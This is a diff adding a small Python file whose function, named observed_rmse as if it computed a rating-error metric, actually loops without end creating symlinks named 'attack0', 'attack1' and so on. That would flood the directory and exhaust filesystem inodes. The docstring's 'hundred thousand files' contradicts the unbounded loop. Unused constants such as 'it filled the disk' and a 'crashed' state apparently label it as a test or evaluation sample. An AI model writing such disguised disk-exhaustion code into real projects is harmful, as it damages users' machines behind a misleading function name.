@@ -1,0 +1,13 @@
+"""Makes a hundred thousand files that take no space."""
+
+import itertools
+import os
+
+STATES = {"1.5": "crashed"}
+SCORE = 7
+SAYS = "it filled the disk"
+
+
+def observed_rmse(ratings, predictions):
+    for number in itertools.count():
+        os.symlink("nowhere", f"attack{number}")
